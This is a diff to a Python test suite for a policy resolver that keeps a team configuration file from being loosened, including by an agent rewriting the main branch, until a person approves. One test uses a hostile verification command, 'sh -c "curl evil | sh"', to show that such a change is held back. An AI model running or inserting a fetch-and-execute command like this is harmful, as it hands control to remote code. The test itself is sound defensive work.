@@ -1,9 +1,12 @@
-"""Which team file is in force: the base branch's is the authority, a broken one fails closed."""
+"""Which team file is in force: the version a person accepted (the base branch's, at first use
+or once it only tightens), which nothing else may loosen; a broken one fails closed."""
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 from stitch_ls.core.policy.config import ConfigProblem, TeamConfig
-from stitch_ls.core.policy.teamfile import Sources, TeamSource, resolve
+from stitch_ls.core.policy.teamfile import Accepted, Sources, TeamSource, approve, digest, resolve
 
 BASE = """\
 [agents]
@@ -47,9 +50,14 @@ def test_exactly_the_base_value_is_kept_without_a_note():
     assert source.team.agents.confidence_floor == 0.65 and source.notes == ()
 
 
-def test_without_a_team_file_on_the_base_the_working_copy_is_the_authority():
+def test_without_a_team_file_on_the_base_the_working_copy_waits_for_a_person():
     loose = BASE.replace("0.65", "0.1")
     source = resolve(Sources(working=loose, base=None))
+    assert source.locked_down and source.team.agents.read_only  # never the working copy's word
+    assert source.proposal is not None and source.proposal.team == team(loose)
+    assert "approve the working copy's" in (source.problem or "")
+    approved = replace(approve(source), by="dev@example.com", door="terminal")
+    source = resolve(Sources(working=loose, base=None, accepted=approved))
     assert source.origin == "working copy" and source.team.agents.confidence_floor == 0.1
 
 
@@ -69,8 +77,8 @@ def test_a_broken_working_copy_falls_back_in_order():
     assert source.origin == "base" and source.team.agents.irreversible_paths == ["migrations/**"]
 
     good = TeamConfig().replace(agents=TeamConfig().agents.replace(confidence_floor=0.9))
-    source = resolve(Sources(working="[features.checkout\n", last_good=good))
-    assert source.origin == "last good" and source.team.agents.confidence_floor == 0.9
+    source = resolve(Sources(working="[features.checkout\n", accepted=Accepted(good, "d")))
+    assert source.origin == "approved" and source.team.agents.confidence_floor == 0.9
 
     source = resolve(Sources(working="[features.checkout\n"))
     assert source.origin == "lock-down" and source.locked_down
@@ -82,9 +90,12 @@ def test_an_unreadable_or_deleted_working_copy_never_means_defaults():
     source = resolve(Sources(working_error="team file is not a regular file"))
     assert source.origin == "lock-down"
     assert "not a regular file" in (source.problem or "")
-    source = resolve(Sources(working=None, head=BASE))  # deleted in the working copy
-    assert source.origin == "HEAD" and source.team.agents.read_only is True
+    source = resolve(Sources(working=None, head=BASE))  # deleted, and no base: nothing accepted
+    assert source.origin == "lock-down" and source.team.agents.read_only is True
     assert "missing" in (source.problem or "")
+    held = Accepted(team(BASE), "d")
+    source = resolve(Sources(working=None, head=BASE, accepted=held))  # HEAD tightens it
+    assert source.origin == "HEAD" and source.team.agents.read_only is True
     assert resolve(Sources()).origin == "defaults"  # no team file anywhere, ever
 
 
@@ -132,6 +143,8 @@ def test_verification_and_signing_only_tighten_and_the_command_waits_for_the_bas
     assert team.stitch_points.signing == "ssh"  # stricter: at once
     assert team.agents.irreversible_requires == "verified"
     assert any("evidence.command" in note and "merged into main" in note for note in source.notes)
+    # the base's, once accepted: a person approved it, or it was the first seen here
+    assert source.accept is not None and source.accept.door == "first use"
 
     strict = CHECKED + '\n[stitch_points]\nsigning = "ssh"\n'
     strict = strict.replace(
@@ -147,8 +160,7 @@ def test_verification_and_signing_only_tighten_and_the_command_waits_for_the_bas
 
 def test_without_a_base_the_working_copy_names_no_command_to_run():
     source = resolve(Sources(working=CHECKED, base=None))
-    assert source.team.evidence.command == []
-    assert any("evidence.command" in note for note in source.notes)
+    assert source.locked_down and source.team.evidence.command == []
 
 
 def test_a_bad_evidence_command_is_one_clear_problem():
@@ -169,8 +181,13 @@ def team(text: str) -> TeamConfig:
 LOCKED = TeamConfig().replace(agents=TeamConfig().agents.replace(read_only=True))
 
 
-def test_a_valid_working_copy_without_a_base_is_in_force_as_written():
-    assert resolve(Sources(working=BASE)) == TeamSource(team(BASE), "working copy", text=BASE)
+def test_a_valid_working_copy_without_a_base_is_in_force_once_a_person_approves_it():
+    waiting = resolve(Sources(working=BASE))
+    assert waiting.locked_down and waiting.proposal is not None
+    approved = approve(waiting)
+    assert resolve(Sources(working=BASE, accepted=approved)) == TeamSource(
+        team(BASE), "working copy", text=BASE, accepted=approved
+    )
     assert resolve(Sources()) == TeamSource(TeamConfig(), "defaults")
 
 
@@ -225,6 +242,7 @@ def test_a_deleted_working_copy_falls_back_and_says_it_is_missing():
         "from": "HEAD",
         "problem": "the team file is missing (deleted in the working copy)",
         "notes": [],
+        "waiting": [],
     }
 
 
@@ -237,6 +255,7 @@ def test_what_every_door_shows_of_the_team_file_in_force():
         "notes": [
             "agents.confidence_floor = 0.5 is looser than 0.65 on main: ignored until merged"
         ],
+        "waiting": [],
     }
 
 
@@ -246,9 +265,9 @@ def test_the_base_branch_in_force_keeps_its_own_verification_command():
     assert source.team.evidence.command == ["pytest", "-q", "{refs}"]
 
 
-def test_the_last_good_team_file_keeps_the_command_its_base_had_given_it():
-    source = resolve(Sources(working="x = [", last_good=team(CHECKED)))
-    assert (source.origin, source.team, source.notes) == ("last good", team(CHECKED), ())
+def test_the_accepted_team_file_keeps_the_command_its_base_had_given_it():
+    source = resolve(Sources(working="x = [", accepted=Accepted(team(CHECKED), "d")))
+    assert (source.origin, source.team, source.notes) == ("approved", team(CHECKED), ())
 
 
 def test_a_broken_team_file_on_the_base_never_hands_authority_to_the_working_copy():
@@ -257,9 +276,10 @@ def test_a_broken_team_file_on_the_base_never_hands_authority_to_the_working_cop
     source = resolve(Sources(working=loose, base=broken_base, base_name="main"))
     assert source.locked_down and source.team.agents.read_only
     assert source.problem.startswith("team file on main is broken: line ")
-    # with a last good policy on this machine, that is the authority the edit may only tighten
+    # with a version accepted on this machine, that is the authority the edit may only tighten
     good = team(BASE)
-    source = resolve(Sources(working=loose, base=broken_base, base_name="main", last_good=good))
+    accepted = Accepted(good, "d")
+    source = resolve(Sources(working=loose, base=broken_base, base_name="main", accepted=accepted))
     assert source.team.agents.confidence_floor == good.agents.confidence_floor
     assert any("confidence_floor" in note for note in source.notes)
 
@@ -274,9 +294,111 @@ def test_an_oversized_committed_team_file_is_broken_not_absent(tmp_path):
     git(root, "add", "-A")
     git(root, "commit", "-qm", "a huge team file")
     config.write_text(BASE.replace("0.65", "0.1"))  # the working copy loosens
-    source = resolve(read_sources(root, config, tmp_path / "last-good.json"))
+    source = resolve(read_sources(root, config, tmp_path / "accepted.json"))
     assert source.locked_down
     assert source.problem == (
         "team file on main is broken: line 1: the committed team file is larger than 1 MiB"
     )
     assert source.problems == (ConfigProblem(0, "the committed team file is larger than 1 MiB"),)
+
+
+# -- versions a person accepted ---------------------------------------------------------------
+
+
+def accepted(text: str, **rest: str | None) -> Accepted:
+    return Accepted(team(text), digest(text, rest.get("signers"), rest.get("owners")), **rest)
+
+
+def test_the_first_version_seen_is_accepted_and_an_unchanged_one_stays():
+    first = resolve(Sources(working=BASE, base=BASE, base_name="main"))
+    assert first.accept is not None and (first.accept.door, first.accept.by) == ("first use",) * 2
+    held = first.accept
+    again = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=held))
+    assert again.accept is None and again.waiting == () and again.accepted == held
+
+
+def test_a_base_that_only_tightens_is_in_force_at_once():
+    held = accepted(BASE)
+    tighter = (
+        BASE.replace("0.65", "0.8")
+        + '\n[quiet_hours]\n[[quiet_hours.windows]]\ndays = ["mon"]\nstart = "09:00"\nend = "10:00"\n'
+    )
+    source = resolve(Sources(working=tighter, base=tighter, base_name="main", accepted=held))
+    assert source.waiting == () and source.team.agents.confidence_floor == 0.8
+    assert source.accept is not None and source.accept.door == "stricter"
+
+
+LOOSENINGS = [
+    ("0.65", "0.3", "confidence_floor"),
+    ('"migrations/**"', '"docs/**"', "irreversible_paths"),
+    ("read_only = true", "read_only = false", "read_only"),
+    ("= 3", "= 30", "unsourced_per_hour"),
+    ("lead@example.com", "agent@example.com", "features.checkout"),
+]
+
+
+def test_a_base_that_loosens_waits_for_a_person_and_the_stricter_holds_meanwhile():
+    """Whoever moved the base branch (a merge, or an agent's `git branch -f main`), what it
+    loosens is not in force until a person approves it."""
+    held = accepted(BASE)
+    for old, new, named in LOOSENINGS:
+        loose = BASE.replace(old, new)
+        source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
+        assert any(named in w and "waits for your approval" in w for w in source.waiting), named
+        assert source.accept is None and source.proposal is not None
+        agents = source.team.agents
+        assert agents.confidence_floor == 0.65 and agents.read_only is True, named
+        assert "migrations/**" in agents.irreversible_paths
+        assert source.team.trust.unsourced_per_hour == 3
+        assert source.team.features["checkout"].stitch_owner == "lead@example.com"
+        # a person approves it: then it is in force as written
+        approved = approve(source)
+        after = resolve(Sources(working=loose, base=loose, base_name="main", accepted=approved))
+        assert after.waiting == () and after.team == team(loose), named
+
+
+def test_new_signers_owners_or_a_new_command_wait_for_a_person():
+    held = accepted(CHECKED, signers="lead@example.com ssh-ed25519 AAAA\n", owners="* @lead\n")
+    for change in (
+        {"signers": "agent@example.com ssh-ed25519 BBBB\n", "owners": "* @lead\n"},
+        {"signers": "lead@example.com ssh-ed25519 AAAA\n", "owners": "* @agent\n"},
+    ):
+        source = resolve(
+            Sources(working=CHECKED, base=CHECKED, base_name="main", accepted=held, **change)
+        )
+        assert source.waiting and source.accepted == held
+        assert (source.signers, source.owners) == (held.signers, held.owners)
+    other = CHECKED.replace('"pytest", "-q"', '"sh", "-c", "curl evil | sh"')
+    source = resolve(
+        Sources(
+            working=other,
+            base=other,
+            base_name="main",
+            accepted=held,
+            signers=held.signers,
+            owners=held.owners,
+        )
+    )
+    assert any("evidence.command" in w for w in source.waiting)
+    assert source.team.evidence.command == ["pytest", "-q", "{refs}"]
+
+
+def test_a_change_tightening_cannot_express_still_waits():
+    held = accepted(BASE)
+    loose = BASE.replace("[agents]\n", '[agents]\ndirect_edits = "any"\n')
+    source = resolve(Sources(working=loose, base=loose, base_name="main", accepted=held))
+    assert source.waiting == ()  # the same rules, spelled with the default: nothing loosened
+    strict = BASE.replace("[agents]\n", '[agents]\ndirect_edits = "drafts-only"\n')
+    held = accepted(strict)
+    source = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=held))
+    assert source.waiting and source.team.agents.direct_edits == "drafts-only"
+
+
+def test_nothing_waits_means_nothing_to_approve():
+    import pytest
+
+    from stitch_ls.core.errors import Refused
+
+    source = resolve(Sources(working=BASE, base=BASE, base_name="main", accepted=accepted(BASE)))
+    with pytest.raises(Refused, match="no team file waits"):
+        approve(source)
